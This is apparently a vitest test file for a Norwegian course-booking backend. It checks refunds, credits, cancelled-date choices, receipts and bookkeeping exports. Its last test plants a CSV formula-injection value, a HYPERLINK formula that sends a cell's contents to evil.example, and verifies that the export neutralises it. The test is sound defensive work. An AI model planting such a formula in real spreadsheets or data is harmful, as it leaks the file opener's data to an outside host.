import { randomUUID } from 'node:crypto';
import { and, eq, like } from 'drizzle-orm';
import { PDFParse } from 'pdf-parse';
import { describe, expect, it } from 'vitest';
import { osloDateKey, osloTime, ore } from '@app/shared';
import { dateChoices, familyCredits, orderEvents, orders, outbox } from '../../db/schema';
import { createCourse, createFamily, createVenue, type Family } from '../../test/builders';
import { submitLandingPage } from '../../test/epayment';
import { bookingTestWithClock, payForCourse } from '../../test/booking';
import { applyDefaults } from '../changes/changes.service';
import { bookkeeping, bookkeepingFile } from './bookkeeping.service';

/**
 * The money seam (issue 52): every event that changes what a family has paid or is owed is followed through every
 * copy of it: a parent's cancellation, a cancelled date's choice (and its default), an admin's refund, an order paid
 * partly or wholly by credit, a move. The family never gets back more than it paid: Vipps refunds + credit = paid.
 */
const kit = bookingTestWithClock();

// Four Mondays 17:00 from 1 March 2027; 1 000,01 kr over them: 250,01 + 250 + 250 + 250.
const DATES = [1, 8, 15, 22].map((d) => osloTime(2027, 3, d, '17:00'));
const PRICE = ore(100_001);
const SHARE = 25_001;
/** Before rules version 1's deadline (14 days before the first date): a full refund. */
const EARLY = osloTime(2027, 2, 1, '12:00');

const course = () => createCourse(kit.t.db, { priceOre: PRICE, maximumParticipants: 6, dates: DATES, ageMinMonths: null, ageMaxMonths: null });
/** A cancelled date, announced at once ('Send e-post nå'): the choices exist when it returns. */
const cancelDate = async (courseId: string, date: Date) => {
  const res = await kit.t.http('POST', `/api/courses/${courseId}/cancelled-dates`, { token: kit.adminToken, body: { date: date.toISOString(), reason: 'Svømmestevne' } });
  for (const c of (res.json?.cancelled ?? []) as { _id: string }[]) await kit.t.http('POST', `/api/cancelled-dates/${c._id}/announce`, { token: kit.adminToken });
  return res;
};
const preview = (orderId: string, token: string) => kit.t.http('GET', `/api/orders/${orderId}/cancellation`, { token });
const cancel = (orderId: string, token: string, expectedRefund: number | null) => kit.t.http('POST', `/api/orders/${orderId}/cancellation`, { token, body: { expectedRefund } });
const choiceOf = async (orderId: string) => (await kit.t.db.select().from(dateChoices).where(eq(dateChoices.orderId, orderId)))[0]!;
const choose = (choiceId: string, token: string, choice: 'credit' | 'refund') => kit.t.http('POST', `/api/changes/${choiceId}/choose`, { token, body: { choice } });
const vippsRefunded = (reference: string) => kit.t.sim.control.payment(reference)?.aggregate.refundedAmount.value ?? 0;
const creditGiven = async (profileId: string) =>
  (await kit.t.db.select().from(familyCredits).where(eq(familyCredits.profileId, profileId))).filter((c) => c.amountOre > 0 && !c.reason.startsWith('Rest: ')).reduce((s, c) => s + c.amountOre, 0);
const balance = async (profileId: string, token: string) => (await kit.t.http('GET', `/api/profiles/${profileId}/credit`, { token })).json.balance as number;
const mailsTo = (family: Family, subject: string) => kit.t.db.select().from(outbox).where(and(eq(outbox.to, family.guardians[0]!.email!), like(outbox.subject, `${subject}%`)));
const pdfText = async (base64: string) => {
  const parser = new PDFParse({ data: new Uint8Array(Buffer.from(base64, 'base64')) });
  const text = (await parser.getText()).text;
  await parser.destroy();
  return text;
};
type Attachment = { filename: string; content: string };

/** A paid booking (through Vipps) on a fresh course, one of whose dates an admin then cancels, before the deadline. */
async function paidWithCancelledDate(dateIndex: number) {
  const c = await course();
  const paid = await payForCourse(kit.t, c);
  kit.clock.current = EARLY;
  await cancelDate(c.id, DATES[dateIndex]!);
  return { ...paid, course: c };
}

/** A family with credit on its ledger, booking `courseId`: credit first, Vipps the rest (if any). */
async function bookWithCredit(courseId: string, creditOre: number, expiresAt = new Date(Date.now() + 200 * 86_400_000)) {
  const family = await createFamily(kit.t.db);
  await kit.t.db.insert(familyCredits).values({ profileId: family.profile.id, amountOre: ore(creditOre), reason: 'Avlyst 2027-01-04', expiresAt });
  const token = await kit.t.token(family.guardians[0]!.id);
  const res = await kit.t.http('POST', '/api/vipps/payment', { token, body: { userId: family.guardians[0]!.id, childId: family.children[0]!.id, courseId } });
  expect(res.status, res.text).toBe(200);
  const [held] = await kit.t.db.select().from(orders).where(eq(orders.childId, family.children[0]!.id));
  if (held!.amountOre > 0) {
    await submitLandingPage(res.json.redirectUrl, 'Betal');
    await kit.t.sim.control.webhooksIdle();
  }
  const [order] = await kit.t.db.select().from(orders).where(eq(orders.id, held!.id));
  expect(order!.status).toBe('captured');
  return { family, token, order: order!, expiresAt };
}

describe('M1: a cancellation settles every open date choice', () => {
  it('money event "parent cancels, then chooses credit": the choice is closed (409 CHOICE_CLOSED); Vipps + credit = paid', async () => {
    const { family, order, token } = await paidWithCancelledDate(1);
    const shown = await preview(order.id, token);
    expect(shown.json).toMatchObject({ outcome: 'full', paidAmount: PRICE, refundAmount: PRICE, creditAmount: 0 });
    expect((await cancel(order.id, token, PRICE)).status).toBe(200);
    expect((await choiceOf(order.id)).choice).toBe('closed');

    const late = await choose((await choiceOf(order.id)).id, token, 'credit');
    expect(late.status).toBe(409);
    expect(late.json.error.code).toBe('CHOICE_CLOSED');
    expect(vippsRefunded(order.reference) + (await creditGiven(family.profile.id))).toBe(PRICE);
  });

  it('money event "date cancelled, credit chosen, then parent cancels": the refund leaves out the credited share', async () => {
    const { family, order, token } = await paidWithCancelledDate(0);
    expect((await choose((await choiceOf(order.id)).id, token, 'credit')).status).toBe(200);
    const shown = await preview(order.id, token);
    expect(shown.json).toMatchObject({ outcome: 'full', paidAmount: PRICE - SHARE, refundAmount: PRICE - SHARE });
    expect((await cancel(order.id, token, PRICE - SHARE)).status).toBe(200);
    await kit.t.sim.control.webhooksIdle();
    expect(vippsRefunded(order.reference)).toBe(PRICE - SHARE);
    expect(vippsRefunded(order.reference) + (await creditGiven(family.profile.id))).toBe(PRICE);
  });

  it('money event "date cancelled, share refunded, then parent cancels": the order can still be cancelled, for the rest', async () => {
    const { family, order, token } = await paidWithCancelledDate(0);
    expect((await choose((await choiceOf(order.id)).id, token, 'refund')).status).toBe(200);
    const shown = await preview(order.id, token);
    expect(shown.status, shown.text).toBe(200);
    expect(shown.json).toMatchObject({ refundAmount: PRICE - SHARE });
    expect((await cancel(order.id, token, PRICE - SHARE)).status).toBe(200);
    expect(vippsRefunded(order.reference) + (await creditGiven(family.profile.id))).toBe(PRICE);
  });

  it('money event "date cancelled, make-up taken, then parent cancels": the make-up counts as given', async () => {
    const place = await createVenue(kit.t.db);
    const own = await createCourse(kit.t.db, { place, priceOre: PRICE, maximumParticipants: 6, dates: DATES, ageMinMonths: null, ageMaxMonths: null, experienceLevel: 'Nybegynner' });
    const wednesday = osloTime(2027, 3, 3, '10:00');
    const makeup = await createCourse(kit.t.db, { place, priceOre: ore(80_000), maximumParticipants: 4, dates: [wednesday], ageMinMonths: null, ageMaxMonths: null, experienceLevel: 'Nybegynner' });
    const { family, order, token } = await payForCourse(kit.t, own);
    kit.clock.current = EARLY;
    await cancelDate(own.id, DATES[0]!);
    const taken = await kit.t.http('POST', `/api/changes/${(await choiceOf(order.id)).id}/choose`, { token, body: { choice: 'makeup', courseId: makeup.id, date: wednesday.toISOString() } });
    expect(taken.status, taken.text).toBe(200);
    expect((await preview(order.id, token)).json).toMatchObject({ paidAmount: PRICE - SHARE, refundAmount: PRICE - SHARE });
    expect((await cancel(order.id, token, PRICE - SHARE)).status).toBe(200);
    expect(vippsRefunded(order.reference) + (await creditGiven(family.profile.id))).toBe(PRICE - SHARE);
  });

  it('money event "date cancelled, nothing chosen, parent cancels, the default runs": no credit on top of the refund', async () => {
    const { family, order, token } = await paidWithCancelledDate(2);
    expect((await cancel(order.id, token, PRICE)).status).toBe(200);
    kit.clock.current = new Date(EARLY.getTime() + 8 * 86_400_000);
    await applyDefaults(kit.t.ctx);
    expect((await choiceOf(order.id)).choice).toBe('closed');
    expect(await creditGiven(family.profile.id)).toBe(0);
    expect(vippsRefunded(order.reference) + (await creditGiven(family.profile.id))).toBe(PRICE);
  });

  it('money events "parent cancels" and "chooses credit" at once: never both (Vipps + credit = paid, never more)', async () => {
    for (let round = 0; round < 3; round++) {
      const { family, order, token } = await paidWithCancelledDate(1);
      const choice = await choiceOf(order.id);
      const [cancelled, chosen] = await Promise.all([cancel(order.id, token, PRICE), choose(choice.id, token, 'credit')]);
      await kit.t.sim.control.webhooksIdle();
      expect([cancelled.status, chosen.status]).toContain(200);
      const back = vippsRefunded(order.reference) + (await creditGiven(family.profile.id));
      // The cancellation won (the choice closed), or the credit (the second date's 250 kr) won and the cancellation saw
      // another amount (409, the parent looks again).
      expect(back).toBe(cancelled.status === 200 ? PRICE : 25_000);
    }
  });

  it('money event "admin refunds and takes the child off": the default no longer credits the open choice', async () => {
    const { family, order } = await paidWithCancelledDate(3);
    const res = await kit.t.http('POST', `/api/payments/${order.id}/refund`, { token: kit.adminToken, body: { amount: PRICE, removeFromCourse: true, idempotencyKey: randomUUID() } });
    expect(res.status, res.text).toBe(200);
    kit.clock.current = new Date(EARLY.getTime() + 8 * 86_400_000);
    await applyDefaults(kit.t.ctx);
    expect((await choiceOf(order.id)).choice).toBe('closed');
    expect(vippsRefunded(order.reference) + (await creditGiven(family.profile.id))).toBe(PRICE);
  });
});

describe('L3: the credit part comes back as credit', () => {
  it('money event "parent cancels an order paid partly by credit": Vipps part to Vipps, credit part as credit with its original expiry', async () => {
    const c = await course();
    const { family, order, token, expiresAt } = await bookWithCredit(c.id, 50_000);
    expect(order).toMatchObject({ amountOre: 50_001, creditOre: 50_000 });
    kit.clock.current = EARLY;
    const shown = await preview(order.id, token);
    expect(shown.json).toMatchObject({ outcome: 'full', paidAmount: PRICE, refundAmount: PRICE, creditAmount: 50_000 });
    const res = await cancel(order.id, token, PRICE);
    expect(res.status, res.text).toBe(200);
    expect(res.json).toMatchObject({ status: 'refunded', refundAmount: PRICE, creditAmount: 50_000 });
    await kit.t.sim.control.webhooksIdle();
    expect(vippsRefunded(order.reference)).toBe(50_001);
    const back = (await kit.t.db.select().from(familyCredits).where(eq(familyCredits.orderId, order.id))).find((e) => e.amountOre > 0)!;
    expect(back).toMatchObject({ amountOre: 50_000 });
    expect(back.expiresAt!.getTime()).toBe(expiresAt.getTime());
    expect(await balance(family.profile.id, token)).toBe(50_000);
    const [mail] = await mailsTo(family, 'Avmelding og refusjon');
    expect(mail!.text).toContain('Du får 500,01 kr tilbake til Vipps og 500 kr som tilgode.');
    // Both receipts ride on it: the Vipps refund's and the credit's.
    const files = mail!.attachments as Attachment[];
    expect(files).toHaveLength(2);
    expect(await pdfText(files[1]!.content)).toContain('Tilbake som tilgode');
  });

  it('money event "parent cancels an order paid wholly by credit": all of it back as credit, not "hele beløpet" with 0 refunded', async () => {
    const c = await course();
    const { family, order, token } = await bookWithCredit(c.id, 150_000);
    expect(order).toMatchObject({ amountOre: 0, creditOre: PRICE });
    kit.clock.current = EARLY;
    const shown = await preview(order.id, token);
    expect(shown.json).toMatchObject({ outcome: 'full', paidAmount: PRICE, refundAmount: PRICE, creditAmount: PRICE });
    const res = await cancel(order.id, token, PRICE);
    expect(res.json).toMatchObject({ status: 'refunded', refundAmount: PRICE, creditAmount: PRICE });
    expect(await balance(family.profile.id, token)).toBe(150_000);
    const [mail] = await mailsTo(family, 'Avmelding og refusjon');
    expect(mail!.text).toContain('Du får 1 000,01 kr tilbake som tilgode.');
  });

  it('money event "late cancellation of a credit-paid order": the fee is taken in proportion from both parts', async () => {
    const c = await course();
    const { family, order, token } = await bookWithCredit(c.id, 50_000);
    kit.clock.current = osloTime(2027, 2, 20, '12:00');
    const shown = await preview(order.id, token);
    expect(shown.json).toMatchObject({ outcome: 'fee', feeAmount: 25_000, refundAmount: 75_001, creditAmount: 75_001 - Math.floor((75_001 * 50_001) / PRICE) });
    expect((await cancel(order.id, token, 75_001)).status).toBe(200);
    await kit.t.sim.control.webhooksIdle();
    expect(vippsRefunded(order.reference) + (await balance(family.profile.id, token))).toBe(75_001);
  });
});

describe('a course priced 0 kr', () => {
  it('money event "booking a free course": paid at once without Vipps, confirmed, no 502', async () => {
    const free = await createCourse(kit.t.db, { priceOre: ore(0), maximumParticipants: 4, dates: DATES, ageMinMonths: null, ageMaxMonths: null });
    const family = await createFamily(kit.t.db);
    const token = await kit.t.token(family.guardians[0]!.id);
    const res = await kit.t.http('POST', '/api/vipps/payment', { token, body: { userId: family.guardians[0]!.id, childId: family.children[0]!.id, courseId: free.id } });
    expect(res.status, res.text).toBe(200);
    const [order] = await kit.t.db.select().from(orders).where(eq(orders.childId, family.children[0]!.id));
    expect(order).toMatchObject({ amountOre: 0, creditOre: 0, status: 'captured' });
    expect(res.json.redirectUrl).toBe(`${kit.t.url}/vipps/payment/${order!.reference}`);
    expect(kit.t.sim.control.payment(order!.reference)).toBeUndefined();
    const status = await kit.t.http('GET', `/api/vipps/payment/${order!.reference}`, { token });
    expect(status.json).toMatchObject({ status: 'captured', enrolled: true });
  });
});

describe('receipts for every refund', () => {
  it('money event "admin refunds in the back office": the e-mail carries the refund receipt; /profil lists it', async () => {
    const c = await course();
    const { family, order, token } = await payForCourse(kit.t, c);
    const res = await kit.t.http('POST', `/api/payments/${order.id}/refund`, { token: kit.adminToken, body: { amount: 10_000, removeFromCourse: false, idempotencyKey: randomUUID() } });
    expect(res.status, res.text).toBe(200);
    const [mail] = await mailsTo(family, 'Refusjon:');
    const [file] = mail!.attachments as Attachment[];
    expect(file!.filename).toMatch(/^kvittering-refusjon-/);
    expect(await pdfText(file!.content)).toContain('Refundert: 100 kr');
    const listed = (await kit.t.http('GET', `/api/profiles/${family.profile.id}/payments`, { token })).json[0];
    expect(listed.receipts.map((r: { kind: string; amount: number }) => [r.kind, r.amount]).sort()).toEqual([['payment', PRICE], ['refund', 10_000]]);
  });

  it('money event "admin refunds in the back office": the parent\'s receipt names the reference in Norwegian, never "pspReference"', async () => {
    const c = await course();
    const { family, order } = await payForCourse(kit.t, c);
    const res = await kit.t.http('POST', `/api/payments/${order.id}/refund`, { token: kit.adminToken, body: { amount: 10_000, removeFromCourse: false, idempotencyKey: randomUUID() } });
    expect(res.status, res.text).toBe(200);
    const [mail] = await mailsTo(family, 'Refusjon:');
    const text = await pdfText((mail!.attachments as Attachment[])[0]!.content);
    expect(text).not.toContain('pspReference');
    expect(text).toMatch(/Betalingsreferanse: \S+/);
    expect(text).toContain('Vipps-referanse');
  });

  it("money event \"a cancelled date's share refunded\": a receipt by e-mail", async () => {
    const { family, order, token } = await paidWithCancelledDate(0);
    expect((await choose((await choiceOf(order.id)).id, token, 'refund')).status).toBe(200);
    const [mail] = await mailsTo(family, 'Kvittering for refusjon');
    expect(mail!.text).toContain('Du får 250,01 kr tilbake til Vipps for den avlyste kursdagen 01.03.2027');
    const [file] = mail!.attachments as Attachment[];
    expect(await pdfText(file!.content)).toContain('Refundert: 250,01 kr');
  });

  it('money event "order paid wholly by credit": a payment receipt by e-mail and on /profil, downloadable', async () => {
    const c = await course();
    const { family, order, token } = await bookWithCredit(c.id, 150_000);
    const [mail] = await mailsTo(family, 'Kvittering for betaling');
    expect(mail!.text).toContain('Vi har mottatt 1 000,01 kr med tilgode');
    const [file] = mail!.attachments as Attachment[];
    expect(await pdfText(file!.content)).toContain('Betalingsmåte: Tilgode');
    const listed = (await kit.t.http('GET', `/api/profiles/${family.profile.id}/payments`, { token })).json[0];
    expect(listed).toMatchObject({ capturedAmount: 0, creditAmount: PRICE });
    expect(listed.receipts).toMatchObject([{ kind: 'payment', method: 'credit', amount: PRICE }]);
    const pdf = await fetch(`${kit.t.url}/api/orders/${order.id}/receipts/${listed.receipts[0].eventId}`, { headers: { authorization: `Bearer ${token}` } });
    expect(pdf.status).toBe(200);
  });
});

describe('bookkeeping', () => {
  it('money event "refund after a move": the capture under the course sold, the refund under the course it was for then', async () => {
    const from = await course();
    const to = await createCourse(kit.t.db, { priceOre: PRICE, maximumParticipants: 6, dates: DATES, ageMinMonths: null, ageMaxMonths: null, name: 'c52 Flyttet hit' });
    const { family, order } = await payForCourse(kit.t, from);
    // The move after the capture (the simulator stamps its events with the real time), the refund after the move.
    kit.clock.current = new Date();
    const moved = await kit.t.http('POST', `/api/courses/${from.id}/participants/${family.children[0]!.id}/move`, { token: kit.adminToken, body: { courseId: to.id } });
    expect(moved.status, moved.text).toBe(200);
    await kit.t.http('POST', `/api/payments/${order.id}/refund`, { token: kit.adminToken, body: { amount: 10_000, removeFromCourse: false, idempotencyKey: randomUUID() } });
    const today = osloDateKey(new Date());
    const file = await bookkeeping(kit.t.ctx, { from: today, to: today });
    const rows = file.rows.filter((r) => r.orderId === order.id).map((r) => [r.kind, r.courseId]);
    expect(rows).toEqual([['capture', from.id], ['refund', to.id]]);
  });

  it('L4: the CSV neutralises text cells that start with = + - @ tab or CR; negative amounts stay numbers', async () => {
    const evil = await createCourse(kit.t.db, { priceOre: PRICE, maximumParticipants: 6, dates: DATES, ageMinMonths: null, ageMaxMonths: null, place: await createVenue(kit.t.db, { name: '=HYPERLINK("http://evil.example/?x="&A2,"Klikk")' }) });
    const { order } = await payForCourse(kit.t, evil);
    await kit.t.http('POST', `/api/payments/${order.id}/refund`, { token: kit.adminToken, body: { amount: 10_000, removeFromCourse: false, idempotencyKey: randomUUID() } });
    const today = osloDateKey(new Date());
    const csv = (await bookkeepingFile(kit.t.ctx, { from: today, to: today, format: 'csv' })).content.toString('utf8');
    const lines = csv.split(/\r?\n/).filter((l) => l.includes(order.humanReference));
    expect(lines).toHaveLength(2);
    for (const line of lines) expect(line).toContain(`"'=HYPERLINK(`);
    expect(csv).not.toMatch(/;"?=HYPERLINK/);
    expect(lines.find((l) => l.includes('Refusjon'))).toMatch(/;-100;/);
    const perCourse = csv.split(/\r?\n/).find((l) => l.includes(`"'=HYPERLINK`) && !l.includes(order.humanReference));
    expect(perCourse).toBeDefined();
    expect((await kit.t.db.select().from(orderEvents).where(eq(orderEvents.orderId, order.id))).length).toBeGreaterThan(1);
  });
});
